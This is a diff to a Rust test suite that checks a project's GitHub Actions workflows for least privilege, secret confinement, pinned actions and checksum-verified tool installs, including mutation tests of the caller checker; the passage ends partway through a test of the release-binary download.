@@ -1,7 +1,9 @@
 //! The GitHub workflows and the composite action (actionlint runs on them in
-//! tests/services/actionlint.rs): the image workflow's triggers, permissions, secrets and
-//! concurrency are what docs/github-actions.md promises; the action's scripts map inputs to flags and install a release binary (checked) or fall
-//! back to a build from source.
+//! tests/services/actionlint.rs): the reusable pipeline's (pipeline.yml) jobs,
+//! permissions, secrets and concurrency are what docs/github-actions.md promises, its
+//! callers (this repository's image.yml and sweep.yml, and the README's example for
+//! other repositories) call it as it needs; the action's scripts map inputs to flags and
+//! install a release binary (checked) or fall back to a build from source.
 
 use crate::common;
 
@@ -10,6 +12,13 @@ use std::process::Command;
 
 use common::*;
 use yaml_rust2::{Yaml, YamlEmitter, YamlLoader};
+
+/// The reusable workflow: the image pipeline.
+const PIPELINE: &str = ".github/workflows/pipeline.yml";
+/// The caller workflow other repositories add, shown whole in the README.
+const CALLER_EXAMPLE: &str = "tests/fixtures/workflows/caller.yml";
+/// Where the jobs with secrets get them: the environment the caller names.
+const ENVIRONMENT: &str = "${{ inputs.environment }}";
 
 fn load(rel: &str) -> Yaml {
     let text = std::fs::read_to_string(repo().join(rel)).unwrap();
@@ -52,6 +61,25 @@ fn uses(node: &Yaml, found: &mut Vec<String>) {
     }
 }
 
+/// The events a workflow runs on.
+fn events(wf: &Yaml) -> BTreeSet<String> {
+    match &wf["on"] {
+        Yaml::String(one) => set(&[one]),
+        Yaml::Array(many) => many.iter().map(|e| e.as_str().unwrap().into()).collect(),
+        map => keys(map),
+    }
+}
+
+/// What a job's `permissions` grants, scope to level.
+fn granted(job: &Yaml, name: &str) -> Vec<(String, String)> {
+    job["permissions"]
+        .as_hash()
+        .unwrap_or_else(|| panic!("{name}: no permissions block"))
+        .iter()
+        .map(|(k, v)| (k.as_str().unwrap().into(), v.as_str().unwrap().into()))
+        .collect()
+}
+
 #[test]
 fn the_image_workflow_runs_on_pull_requests_pushes_dispatch_and_weekly() {
     let wf = load(".github/workflows/image.yml");
@@ -77,12 +105,9 @@ fn the_image_workflow_runs_on_pull_requests_pushes_dispatch_and_weekly() {
             .collect()
     };
     assert!(paths("push").contains(&"provision/**".to_string()));
-    // The workflow that builds the tool is part of the pipeline.
+    // The reusable workflow is the pipeline: a change to it runs it.
     for event in ["push", "pull_request"] {
-        assert!(
-            paths(event).contains(&".github/workflows/tool.yml".to_string()),
-            "{event}"
-        );
+        assert!(paths(event).contains(&PIPELINE.to_string()), "{event}");
     }
     assert!(
         paths("pull_request").contains(&"provision/**".to_string())
@@ -99,22 +124,295 @@ fn the_image_workflow_runs_on_pull_requests_pushes_dispatch_and_weekly() {
     for file in workflow_files() {
         let text = std::fs::read_to_string(&file).unwrap();
         let wf = YamlLoader::load_from_str(&text).unwrap().remove(0);
-        let events = match &wf["on"] {
-            Yaml::String(one) => set(&[one]),
-            Yaml::Array(many) => many.iter().map(|e| e.as_str().unwrap().into()).collect(),
-            map => keys(map),
-        };
         assert!(
-            !events.contains("pull_request_target"),
+            !events(&wf).contains("pull_request_target"),
             "{} runs on pull_request_target",
             file.display()
         );
     }
 }
 
+/// Where a caller of pipeline.yml does not call it as it needs: another `uses:`, a grant
+/// below what the called jobs ask (GitHub refuses the whole run) or above it, secrets
+/// passed by name (environment secrets cannot be) or spelled in the caller at all, no
+/// `secrets: inherit` (the environment's secrets then arrive empty), an input the
+/// pipeline does not have.
+fn caller_violations(wf: &Yaml, expected_uses: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    if text_of(wf).contains("secrets.") {
+        found.push("the caller spells out secrets: they belong to the environment".into());
+    }
+    if !wf["permissions"].as_hash().is_some_and(|p| p.is_empty()) {
+        found.push("the caller grants something workflow-wide".into());
+    }
+    let inputs = keys(&load(PIPELINE)["on"]["workflow_call"]["inputs"]);
+    let calls: Vec<_> = wf["jobs"]
+        .as_hash()
+        .unwrap()
+        .iter()
+        .filter(|(_, job)| !job["uses"].is_badvalue())
+        .collect();
+    if calls.len() != 1 {
+        found.push(format!("{} jobs call a workflow, not one", calls.len()));
+    }
+    for (name, job) in calls {
+        let name = name.as_str().unwrap();
+        if job["uses"].as_str() != Some(expected_uses) {
+            found.push(format!(
+                "{name}: uses {:?}, not {expected_uses}",
+                job["uses"]
+            ));
+        }
+        let grant: BTreeSet<_> = granted(job, name).into_iter().collect();
+        let wanted: BTreeSet<_> = [("contents", "write"), ("pull-requests", "write")]
+            .iter()
+            .map(|(s, l)| (s.to_string(), l.to_string()))
+            .collect();
+        if grant != wanted {
+            found.push(format!(
+                "{name}: grants {grant:?}, not what the called jobs ask ({wanted:?})"
+            ));
+        }
+        if job["secrets"].as_str() != Some("inherit") {
+            found.push(format!(
+                "{name}: no `secrets: inherit`: the environment's secrets arrive empty"
+            ));
+        }
+        for input in keys(&job["with"]) {
+            if !inputs.contains(&input) {
+                found.push(format!("{name}: pipeline.yml has no input `{input}`"));
+            }
+        }
+        if job["with"]["environment"]
+            .as_str()
+            .is_none_or(str::is_empty)
+        {
+            found.push(format!("{name}: no environment named"));
+        }
+    }
+    found
+}
+
 #[test]
-fn each_image_job_has_least_privilege_and_secrets_only_in_the_environment() {
-    let wf = load(".github/workflows/image.yml");
+fn each_caller_calls_the_pipeline_with_inherit_and_the_grant_it_needs() {
+    // This repository's own callers compile the tool from their checkout.
+    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
+        let wf = load(rel);
+        assert_eq!(
+            caller_violations(&wf, "./.github/workflows/pipeline.yml"),
+            Vec::<String>::new(),
+            "{rel}"
+        );
+        let (_, job) = wf["jobs"].as_hash().unwrap().iter().next().unwrap();
+        assert_eq!(keys(&wf["jobs"]).len(), 1, "{rel}: the call alone");
+        assert_eq!(job["with"]["tool-version"].as_str(), Some("checkout"));
+        assert_eq!(job["with"]["environment"].as_str(), Some("uworker-image"));
+        assert_eq!(job["with"]["dir"].as_str(), Some("provision"));
+    }
+    let image = &load(".github/workflows/image.yml")["jobs"]["image"]["with"];
+    assert_eq!(image["force"].as_str(), Some("${{ inputs.force == true }}"));
+    assert_eq!(image["target"].as_str(), Some("${{ inputs.target || '' }}"));
+    assert!(image["sweep"].is_badvalue());
+    let sweep = &load(".github/workflows/sweep.yml")["jobs"]["sweep"]["with"];
+    assert_eq!(sweep["sweep"].as_bool(), Some(true));
+
+    // The example other repositories copy: a release of the pipeline, the tool of that
+    // release (no tool-version), every event the pipeline serves.
+    let example = load(CALLER_EXAMPLE);
+    assert_eq!(
+        caller_violations(
+            &example,
+            "OWNER/uworker-image/.github/workflows/pipeline.yml@vX.Y.Z"
+        ),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        events(&example),
+        set(&["pull_request", "push", "workflow_dispatch", "schedule"])
+    );
+    // What it calls keeps the secret boundary: no secret in a `uses:` step's env, none
+    // at job or workflow level, none where something compiles.
+    assert_eq!(
+        secret_boundary_violations(&load(PIPELINE)),
+        Vec::<String>::new()
+    );
+    let with = &example["jobs"]["image"]["with"];
+    assert!(with["tool-version"].is_badvalue() && with["sweep"].is_badvalue());
+    assert_eq!(with["force"], image["force"]);
+    assert_eq!(with["target"], image["target"]);
+    assert_eq!(
+        keys(&example["on"]["workflow_dispatch"]["inputs"]),
+        set(&["force", "target"])
+    );
+    let text = std::fs::read_to_string(repo().join(CALLER_EXAMPLE)).unwrap();
+    assert!(
+        text.lines().count() <= 30,
+        "about 20 lines: {}",
+        text.lines().count()
+    );
+    // Shown whole in the README's adoption section, which says why `secrets: inherit`.
+    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
+    let section = readme
+        .split("\n## Adopting the action\n")
+        .nth(1)
+        .and_then(|rest| rest.split("\n## ").next())
+        .expect("README: ## Adopting the action");
+    assert!(
+        section.contains(&format!("```yaml\n{text}```\n")),
+        "README's adoption section does not show {CALLER_EXAMPLE} whole"
+    );
+    assert!(section.contains("secrets: inherit"));
+}
+
+#[test]
+fn each_caller_check_catches_its_breach() {
+    let text = std::fs::read_to_string(repo().join(CALLER_EXAMPLE)).unwrap();
+    let uses = "OWNER/uworker-image/.github/workflows/pipeline.yml@vX.Y.Z";
+    for (from, to, violation) in [
+        (
+            "    secrets: inherit\n",
+            "",
+            "no `secrets: inherit`: the environment's secrets arrive empty",
+        ),
+        (
+            "    secrets: inherit\n",
+            "    secrets:\n      OS_AUTH_URL: ${{ secrets.OS_AUTH_URL }}\n",
+            "the caller spells out secrets",
+        ),
+        (
+            "{ contents: write, pull-requests: write }",
+            "{ contents: write }",
+            "not what the called jobs ask",
+        ),
+        (
+            "permissions: {}\n",
+            "permissions: write-all\n",
+            "grants something workflow-wide",
+        ),
+        (
+            "      dir: provision\n",
+            "      directory: provision\n",
+            "pipeline.yml has no input `directory`",
+        ),
+        (
+            "      environment: uworker-image\n",
+            "",
+            "no environment named",
+        ),
+    ] {
+        assert!(text.contains(from), "the example has no `{from}`");
+        let wf = YamlLoader::load_from_str(&text.replacen(from, to, 1))
+            .unwrap()
+            .remove(0);
+        let found = caller_violations(&wf, uses);
+        assert!(
+            found.iter().any(|f| f.contains(violation)),
+            "no `{violation}` in {found:#?}"
+        );
+    }
+}
+
+#[test]
+fn the_pipeline_is_reusable_and_does_by_event_what_the_issue_asks() {
+    let wf = load(PIPELINE);
+    assert_eq!(events(&wf), set(&["workflow_call"]));
+    let inputs = &wf["on"]["workflow_call"]["inputs"];
+    assert_eq!(
+        keys(inputs),
+        set(&[
+            "dir",
+            "environment",
+            "packer-version",
+            "force",
+            "target",
+            "tool-version",
+            "sweep"
+        ])
+    );
+    assert_eq!(inputs["force"]["type"].as_str(), Some("boolean"));
+    assert_eq!(inputs["sweep"]["type"].as_str(), Some("boolean"));
+    assert_eq!(inputs["dir"]["default"].as_str(), Some("provision"));
+    assert_eq!(
+        inputs["environment"]["default"].as_str(),
+        Some("uworker-image")
+    );
+    // The packer version the action defaults to: the one the test suite runs.
+    assert_eq!(
+        inputs["packer-version"]["default"],
+        load("action.yml")["inputs"]["packer-version"]["default"]
+    );
+    assert!(
+        wf["on"]["workflow_call"]["secrets"].is_badvalue(),
+        "environment secrets are not passed by name"
+    );
+    assert_eq!(
+        wf["env"]["UWORKER_IMAGE_DIR"].as_str(),
+        Some("${{ inputs.dir }}")
+    );
+    let job_if = |job: &str| {
+        wf["jobs"][job]["if"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string()
+    };
+    // Pull requests: the targets, then validate and plan (with the comment) per target.
+    assert!(
+        job_if("pr-targets").starts_with("github.event_name == 'pull_request' && !inputs.sweep")
+    );
+    let check: String = wf["jobs"]["pr-check"]["steps"]
+        .as_vec()
+        .unwrap()
+        .iter()
+        .filter_map(|s| s["run"].as_str())
+        .collect();
+    for command in [
+        "exec uworker-image validate --target \"$MATRIX_TARGET\" --without-secrets",
+        "exec uworker-image plan --target \"$MATRIX_TARGET\"",
+    ] {
+        assert!(check.contains(command), "pr-check: no `{command}`");
+    }
+    // Every other event: plan, then build, release, prune, the sweep after a failure.
+    assert!(job_if("plan").starts_with("github.event_name != 'pull_request' && !inputs.sweep"));
+    for (job, needs) in [
+        ("build", "plan"),
+        ("release", "build"),
+        ("prune", "build"),
+        ("sweep-after-build", "build"),
+    ] {
+        assert!(
+            text_of(&wf["jobs"][job]["needs"]).contains(needs),
+            "{job} needs {needs}"
+        );
+    }
+    // Input `sweep`: the tool and the sweep, nothing else (the jobs after plan and
+    // pr-targets follow them).
+    assert_eq!(job_if("sweep"), "inputs.sweep");
+    for (name, job) in wf["jobs"].as_hash().unwrap() {
+        let name = name.as_str().unwrap();
+        if name == "sweep" {
+            continue;
+        }
+        if ["tool-release", "tool"].contains(&name) {
+            assert!(
+                !job_if(name).contains("inputs.sweep"),
+                "{name} runs in every mode"
+            );
+            continue;
+        }
+        let needs = text_of(&job["needs"]);
+        assert!(
+            job_if(name).contains("!inputs.sweep")
+                || needs.contains("plan")
+                || needs.contains("pr-targets")
+                || name == "sweep-after-build",
+            "{name}: runs on a sweep"
+        );
+    }
+}
+
+#[test]
+fn each_pipeline_job_has_least_privilege_and_secrets_only_in_the_environment() {
+    let wf = load(PIPELINE);
     assert!(
         wf["permissions"].as_hash().is_some_and(|p| p.is_empty()),
         "the workflow grants nothing by default"
@@ -127,6 +425,7 @@ fn each_image_job_has_least_privilege_and_secrets_only_in_the_environment() {
     assert_eq!(
         keys(&wf["jobs"]),
         set(&[
+            "tool-release",
             "tool",
             "pr-targets",
             "pr-check",
@@ -134,18 +433,13 @@ fn each_image_job_has_least_privilege_and_secrets_only_in_the_environment() {
             "build",
             "release",
             "prune",
-            "sweep-after-build"
+            "sweep-after-build",
+            "sweep"
         ])
     );
     for (name, job) in jobs {
         let name = name.as_str().unwrap();
-        let permissions = &job["permissions"];
-        let granted: Vec<(String, String)> = permissions
-            .as_hash()
-            .unwrap_or_else(|| panic!("{name}: no permissions block"))
-            .iter()
-            .map(|(k, v)| (k.as_str().unwrap().into(), v.as_str().unwrap().into()))
-            .collect();
+        let granted = granted(job, name);
         for (scope, level) in &granted {
             let allowed = match (scope.as_str(), level.as_str()) {
                 ("contents", "read") => true,
@@ -155,30 +449,19 @@ fn each_image_job_has_least_privilege_and_secrets_only_in_the_environment() {
             };
             assert!(allowed, "{name}: {scope}: {level}");
         }
-        // A job that calls a workflow has the timeouts of that workflow's jobs.
-        match job["uses"].as_str() {
-            Some(called) => {
-                let called = load(called.trim_start_matches("./"));
-                for (inner, job) in called["jobs"].as_hash().unwrap() {
-                    assert!(
-                        job["timeout-minutes"].as_i64().is_some(),
-                        "{name} ({called:?}): {inner:?}: timeout"
-                    );
-                }
-            }
-            None => assert!(job["timeout-minutes"].as_i64().is_some(), "{name}: timeout"),
-        }
+        assert!(job["uses"].is_badvalue(), "{name}: no nested workflow");
+        assert!(job["timeout-minutes"].as_i64().is_some(), "{name}: timeout");
 
         let environment = job["environment"].as_str();
         let holds_secrets = text_of(job).contains("secrets.");
         if holds_secrets {
-            assert_eq!(environment, Some("uworker-image"), "{name}");
+            assert_eq!(environment, Some(ENVIRONMENT), "{name}");
         }
         let writes = granted.iter().any(|(_, level)| level == "write");
-        if writes || name.starts_with("pr-") {
+        if writes || name.starts_with("pr-") || name.starts_with("tool") {
             assert!(
                 !holds_secrets && environment.is_none(),
-                "{name}: a job with a write token or on pull requests holds no secrets"
+                "{name}: a job with a write token, on pull requests or for the tool holds no secrets"
             );
         }
     }
@@ -223,7 +506,7 @@ fn each_image_job_has_least_privilege_and_secrets_only_in_the_environment() {
 
 #[test]
 fn builds_run_per_target_from_the_plan_never_racing_and_long_enough() {
-    let wf = load(".github/workflows/image.yml");
+    let wf = load(PIPELINE);
     let build = &wf["jobs"]["build"];
     assert_eq!(text_of(&build["needs"]), "---\n- tool\n- plan");
     assert_eq!(
@@ -271,10 +554,16 @@ fn builds_run_per_target_from_the_plan_never_racing_and_long_enough() {
         "{plan}"
     );
     // Two pushes must not cancel a build; only pull request checks are cancelled.
-    assert!(
-        wf["concurrency"].is_badvalue(),
-        "no workflow-wide cancellation"
-    );
+    for rel in [
+        PIPELINE,
+        ".github/workflows/image.yml",
+        ".github/workflows/sweep.yml",
+    ] {
+        assert!(
+            load(rel)["concurrency"].is_badvalue(),
+            "{rel}: no workflow-wide cancellation"
+        );
+    }
     assert_eq!(
         wf["jobs"]["pr-check"]["concurrency"]["cancel-in-progress"].as_bool(),
         Some(true)
@@ -284,7 +573,7 @@ fn builds_run_per_target_from_the_plan_never_racing_and_long_enough() {
 /// The `sweep` step of a job: its `run` text. It holds the cloud credentials only and
 /// execs the tool; every step that is not it holds no secret.
 fn sweep_step(job: &Yaml, name: &str) -> String {
-    assert_eq!(job["environment"].as_str(), Some("uworker-image"), "{name}");
+    assert_eq!(job["environment"].as_str(), Some(ENVIRONMENT), "{name}");
     let steps = job["steps"].as_vec().unwrap();
     let step = steps
         .iter()
@@ -316,8 +605,8 @@ fn sweep_step(job: &Yaml, name: &str) -> String {
 #[test]
 fn dead_runs_are_swept_after_a_failed_or_cancelled_build_and_every_day() {
     // After the build job of a run failed or was cancelled: that run's leftovers, at once.
-    let image = load(".github/workflows/image.yml");
-    let job = &image["jobs"]["sweep-after-build"];
+    let pipeline = load(PIPELINE);
+    let job = &pipeline["jobs"]["sweep-after-build"];
     let needs: Vec<&str> = job["needs"]
         .as_vec()
         .unwrap()
@@ -341,7 +630,8 @@ fn dead_runs_are_swept_after_a_failed_or_cancelled_build_and_every_day() {
         "{run}"
     );
 
-    // Every day: everything older than the build deadline plus its grace.
+    // Every day (sweep.yml calls the pipeline with input `sweep`): everything older than
+    // the build deadline plus its grace.
     let daily = load(".github/workflows/sweep.yml");
     assert_eq!(keys(&daily["on"]), set(&["schedule", "workflow_dispatch"]));
     let cron = daily["on"]["schedule"][0]["cron"].as_str().unwrap();
@@ -350,7 +640,7 @@ fn dead_runs_are_swept_after_a_failed_or_cancelled_build_and_every_day() {
         ["*", "*", "*"]
     );
     assert!(daily["permissions"].as_hash().is_some_and(|p| p.is_empty()));
-    let job = &daily["jobs"]["sweep"];
+    let job = &pipeline["jobs"]["sweep"];
     assert_eq!(
         keys(&job["permissions"]),
         set(&["contents"]),
@@ -358,6 +648,10 @@ fn dead_runs_are_swept_after_a_failed_or_cancelled_build_and_every_day() {
     );
     assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
     assert!(job["timeout-minutes"].as_i64().is_some());
+    assert_eq!(
+        job["concurrency"]["cancel-in-progress"].as_bool(),
+        Some(false)
+    );
     let run = sweep_step(job, "sweep");
     assert!(
         !run.contains("--older-than") && !run.contains("--run"),
@@ -366,22 +660,18 @@ fn dead_runs_are_swept_after_a_failed_or_cancelled_build_and_every_day() {
     // The same deadline as the builds it must never touch.
     assert_eq!(
         job["env"]["UWORKER_IMAGE_TIMEOUT"],
-        image["jobs"]["build"]["env"]["UWORKER_IMAGE_TIMEOUT"]
+        pipeline["jobs"]["build"]["env"]["UWORKER_IMAGE_TIMEOUT"]
     );
 }
 
 #[test]
 fn every_action_is_pinned_to_a_commit() {
-    for rel in [
-        ".github/workflows/ci.yml",
-        ".github/workflows/image.yml",
-        ".github/workflows/release.yml",
-        ".github/workflows/sweep.yml",
-        ".github/workflows/tool.yml",
-        "action.yml",
-    ] {
+    let mut files = workflow_files();
+    files.push(repo().join("action.yml"));
+    for file in files {
+        let rel = file.strip_prefix(repo()).unwrap().display().to_string();
         let mut found = Vec::new();
-        uses(&load(rel), &mut found);
+        uses(&load(&rel), &mut found);
         assert!(!found.is_empty(), "{rel}");
         for reference in found {
             // This repository's own action and workflows, at the run's commit.
@@ -398,7 +688,6 @@ fn every_action_is_pinned_to_a_commit() {
         }
     }
 }
-
 #[test]
 fn ci_runs_fmt_clippy_the_test_command_and_the_linters() {
     let ci = text_of(&load(".github/workflows/ci.yml"));
@@ -515,6 +804,13 @@ const CHECK_THE_TOOL: [&str; 3] = [
 const EXEC_THE_TOOL: &str = r#"exec "$tool" "${args[@]}""#;
 /// Where job `tool`'s hash reaches those steps (their job's env).
 const TOOL_SHA256: &str = "${{ needs.tool.outputs.sha256 }}";
+/// How every job of the pipeline after `tool` puts the run's binary on PATH: the
+/// artifact, checked against job `tool`'s SHA-256 (a composite action would do the same
+/// but `uses: ./` in a called workflow is the caller's checkout).
+const INSTALL_THE_TOOL: &str = r#"install -D -m 0755 "$RUNNER_TEMP/tool/uworker-image" "$RUNNER_TEMP/bin/uworker-image"
+/usr/bin/sha256sum --check --strict --quiet <<<"$TOOL_SHA256  $RUNNER_TEMP/bin/uworker-image"
+echo "$RUNNER_TEMP/bin" >>"$GITHUB_PATH"
+"#;
 
 /// What is wrong with a step that holds secrets, if anything. It does nothing but run the
 /// tool: lines that build its arguments (`args=(...)`, `[ ... ] || args+=(...)`), the
@@ -661,46 +957,67 @@ fn no_secret_reaches_an_install_or_a_build_in_any_workflow() {
             file.display()
         );
     }
-    // The pipelines compile once, in tool.yml's job, which holds nothing; the rest
-    // download its binary.
-    let compiles =
-        |job: &Yaml| {
-            job["steps"].as_vec().into_iter().flatten().any(|step| {
-                step["uses"].as_str() == Some("./") && step["with"]["binary"].is_badvalue()
-            })
-        };
-    let tool = load(".github/workflows/tool.yml");
-    assert_eq!(keys(&tool["jobs"]), set(&["tool"]));
-    let job = &tool["jobs"]["tool"];
+    // The pipeline compiles at most once, in job `tool`, which holds nothing; its
+    // release binary comes from `tool-release`, which compiles nothing; the rest install
+    // the run's binary, checked, and compile nothing either.
+    let compiles = |job: &Yaml| {
+        job["steps"].as_vec().into_iter().flatten().any(|step| {
+            let script = step["run"].as_str().unwrap_or_default();
+            (step["uses"].as_str() == Some("./") && step["with"]["binary"].is_badvalue())
+                || COMPILES.iter().any(|w| script.contains(w))
+        })
+    };
+    let wf = load(PIPELINE);
+    let job = &wf["jobs"]["tool"];
     assert!(compiles(job));
     assert!(!text_of(job).contains("secrets.") && job["environment"].is_badvalue());
+    assert!(
+        !text_of(job).contains("github.token"),
+        "tool: no token where it compiles"
+    );
+    let release = &wf["jobs"]["tool-release"];
+    assert!(!compiles(release), "tool-release compiles");
+    assert!(!text_of(release).contains("secrets.") && release["environment"].is_badvalue());
+    for (name, job) in wf["jobs"].as_hash().unwrap() {
+        let name = name.as_str().unwrap();
+        if name == "tool" || name == "tool-release" {
+            continue;
+        }
+        assert!(!compiles(job), "{name} compiles");
+        let steps = job["steps"].as_vec().unwrap();
+        assert!(
+            !steps.iter().any(|s| s["uses"].as_str() == Some("./")),
+            "{name}: `uses: ./` is the caller's checkout, not this repository's action"
+        );
+        let install = steps
+            .iter()
+            .position(|s| s["run"].as_str() == Some(INSTALL_THE_TOOL))
+            .unwrap_or_else(|| panic!("{name}: does not install the run's binary, checked"));
+        let download = steps
+            .iter()
+            .position(|s| {
+                s["uses"]
+                    .as_str()
+                    .is_some_and(|u| u.starts_with("actions/download-artifact@"))
+                    && s["with"]["name"].as_str() == Some("uworker-image")
+            })
+            .unwrap_or_else(|| panic!("{name}: does not download the tool"));
+        assert!(download < install, "{name}");
+        assert_eq!(
+            job["env"]["TOOL_SHA256"].as_str(),
+            Some(TOOL_SHA256),
+            "{name}"
+        );
+        assert!(text_of(&job["needs"]).contains("tool"), "{name}");
+    }
+    // The callers only call.
     for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
-        let wf = load(rel);
-        for (name, job) in wf["jobs"].as_hash().unwrap() {
-            if name.as_str() == Some("tool") {
-                assert_eq!(
-                    job["uses"].as_str(),
-                    Some("./.github/workflows/tool.yml"),
-                    "{rel}"
-                );
-                continue;
-            }
-            assert!(!compiles(job), "{rel}: {name:?} compiles");
-            let installs: Vec<_> = job["steps"]
-                .as_vec()
-                .unwrap()
-                .iter()
-                .filter(|step| step["uses"].as_str() == Some("./"))
-                .collect();
-            assert!(!installs.is_empty(), "{rel}: {name:?}");
-            for step in installs {
-                assert_eq!(
-                    step["with"]["binary-sha256"].as_str(),
-                    Some(TOOL_SHA256),
-                    "{rel}: {name:?}: the run's binary, checked"
-                );
-            }
-            assert!(text_of(&job["needs"]).contains("tool"), "{rel}: {name:?}");
+        for (name, job) in load(rel)["jobs"].as_hash().unwrap() {
+            assert_eq!(
+                job["uses"].as_str(),
+                Some("./.github/workflows/pipeline.yml"),
+                "{rel}: {name:?}"
+            );
         }
     }
 }
@@ -742,7 +1059,7 @@ fn each_secret_step_execs_only_the_binary_the_tool_job_built() {
     };
     let built = stand_in("built");
     let mut checked = Vec::new();
-    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
+    for rel in [PIPELINE] {
         let wf = load(rel);
         for (name, job) in wf["jobs"].as_hash().unwrap() {
             let name = name.as_str().unwrap();
@@ -795,14 +1112,17 @@ fn each_secret_step_execs_only_the_binary_the_tool_job_built() {
     assert_eq!(checked.len(), 5, "{checked:?}");
 
     // The release job holds a write token: its binary is checked before it runs, too.
-    let wf = load(".github/workflows/image.yml");
+    let wf = load(PIPELINE);
     let release = wf["jobs"]["release"]["steps"]
         .as_vec()
         .unwrap()
         .iter()
         .find(|s| text_of(&s["env"]).contains("github.token"))
         .expect("the release step");
-    assert_eq!(release["env"]["TOOL_SHA256"].as_str(), Some(TOOL_SHA256));
+    assert_eq!(
+        wf["jobs"]["release"]["env"]["TOOL_SHA256"].as_str(),
+        Some(TOOL_SHA256)
+    );
     let script = release["run"].as_str().unwrap();
     let lines: Vec<&str> = script.lines().map(str::trim).collect();
     assert_eq!(lines[..3], CHECK_THE_TOOL, "{script}");
@@ -812,9 +1132,54 @@ fn each_secret_step_execs_only_the_binary_the_tool_job_built() {
     );
 }
 
+/// The pipeline's install step, run for real: the artifact with job `tool`'s SHA-256 is
+/// put on PATH; another one (or no SHA-256) is refused and never reaches PATH.
+#[test]
+fn the_install_step_puts_only_the_tool_jobs_binary_on_path() {
+    let tmp = tempfile::tempdir().unwrap();
+    let artifact = tmp.path().join("tool/uworker-image");
+    std::fs::create_dir_all(artifact.parent().unwrap()).unwrap();
+    std::fs::write(&artifact, "#!/bin/sh\necho built\n").unwrap();
+    let built = sha256_hex(&artifact);
+    let github_path = tmp.path().join("github_path");
+    let install = |sha: &str| {
+        let _ = std::fs::remove_dir_all(tmp.path().join("bin"));
+        std::fs::write(&github_path, "").unwrap();
+        run_step(
+            INSTALL_THE_TOOL,
+            tmp.path(),
+            &[
+                ("TOOL_SHA256", sha),
+                ("RUNNER_TEMP", tmp.path().to_str().unwrap()),
+                ("GITHUB_PATH", github_path.to_str().unwrap()),
+            ],
+        )
+    };
+    let r = install(&built);
+    assert_eq!(r.code, 0, "{}", r.all());
+    let installed = tmp.path().join("bin/uworker-image");
+    assert_eq!(sha256_hex(&installed), built);
+    let mode =
+        std::os::unix::fs::PermissionsExt::mode(&installed.metadata().unwrap().permissions());
+    assert_eq!(mode & 0o777, 0o755);
+    assert_eq!(
+        std::fs::read_to_string(&github_path).unwrap(),
+        format!("{}\n", tmp.path().join("bin").display())
+    );
+    for sha in ["0".repeat(64), String::new()] {
+        let r = install(&sha);
+        assert_ne!(r.code, 0, "{sha:?}: {}", r.all());
+        assert_eq!(
+            std::fs::read_to_string(&github_path).unwrap(),
+            "",
+            "{sha:?}"
+        );
+    }
+}
+
 // ---- the tool job: compiled once per source -----------------------------------------
 
-/// tool.yml's steps, by id or `uses:` prefix.
+/// The pipeline's job `tool`: its steps, by id or `uses:` prefix.
 fn tool_step<'a>(steps: &'a [Yaml], what: &str) -> &'a Yaml {
     steps
         .iter()
@@ -822,33 +1187,202 @@ fn tool_step<'a>(steps: &'a [Yaml], what: &str) -> &'a Yaml {
             s["id"].as_str() == Some(what)
                 || s["uses"].as_str().is_some_and(|u| u.starts_with(what))
         })
-        .unwrap_or_else(|| panic!("tool.yml: no step `{what}`"))
+        .unwrap_or_else(|| panic!("pipeline.yml: job tool: no step `{what}`"))
+}
+
+/// What gates each step of job `tool` (compile) and of `tool-release`.
+const FROM_CHECKOUT: &str = "inputs.tool-version == 'checkout'";
+const FROM_RELEASE: &str = "inputs.tool-version != 'checkout'";
+
+#[test]
+fn a_release_tag_installs_the_release_binary_checked_and_compiles_nothing() {
+    let wf = load(PIPELINE);
+    let job = &wf["jobs"]["tool-release"];
+    // It always runs (a skipped job would skip the jobs after it); its steps do the work
+    // for a release tag only.
+    assert!(job["if"].is_badvalue() && job["needs"].is_badvalue());
+    assert_eq!(keys(&job["permissions"]), set(&["contents"]));
+    assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
+    let steps = job["steps"].as_vec().unwrap();
+    for step in steps {
+        assert_eq!(
+            step["if"].as_str(),
+            Some(FROM_RELEASE),
+            "{}",
+            step_label(step)
+        );
+    }
+    let fetch = tool_step(steps, "fetch");
+    // The release of this workflow's own repository, by default its tag.
+    assert_eq!(
+        fetch["env"]["REPOSITORY"].as_str(),
+        Some("${{ job.workflow_repository }}")
+    );
+    assert_eq!(
+        fetch["env"]["WORKFLOW_REF"].as_str(),
+        Some("${{ job.workflow_ref }}")
+    );
+    let script = fetch["run"].as_str().unwrap();
+    for part in [
+        "asset=uworker-image-x86_64-unknown-linux-musl.tar.gz",
+        r#"if [ "$(cat "$asset.sha256")" != "$(sha256sum "$asset")" ]; then"#,
+        r#"gh attestation verify "$asset" --repo "$REPOSITORY" \"#,
+        r#"--signer-workflow "$REPOSITORY/.github/workflows/release.yml""#,
+    ] {
+        assert!(script.contains(part), "tool-release: no `{part}`");
+    }
+    // The same asset the action installs, and the check docs/github-actions.md gives.
+    let install = std::fs::read_to_string(repo().join("action/install.sh")).unwrap();
+    assert!(install.contains("asset=uworker-image-x86_64-unknown-linux-musl.tar.gz"));
+    let upload = tool_step(steps, "actions/upload-artifact@");
+    assert_eq!(upload["with"]["name"].as_str(), Some("uworker-image"));
+    // Job `tool` hands its SHA-256 on when it compiled nothing.
+    assert_eq!(
+        wf["jobs"]["tool"]["outputs"]["sha256"].as_str(),
+        Some("${{ steps.pack.outputs.sha256 || needs.tool-release.outputs.sha256 }}")
+    );
+    assert_eq!(wf["jobs"]["tool"]["needs"].as_str(), Some("tool-release"));
+    assert!(wf["jobs"]["tool"]["if"].is_badvalue());
+}
+
+/// tool-release's script, run for real against a release served from a directory
+/// (curl's file:// URLs; gh a stand-in that records its arguments).
+#[test]
+fn the_release_binary_is_refused_when_its_checksum_does_not_name_it_alone() {
+    let wf = load(PIPELINE);
+    let script = tool_step(
+        wf["jobs"]["tool-release"]["steps"].as_vec().unwrap(),
+        "fetch",
+    )["run"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let tmp = tempfile::tempdir().unwrap();
+    let server = tmp.path().join("server");
+    let download = server.join("OWNER/uworker-image/releases/download/v1.2.0");
+    std::fs::create_dir_all(&download).unwrap();
+    let built = tmp.path().join("built");
+    std::fs::create_dir_all(&built).unwrap();
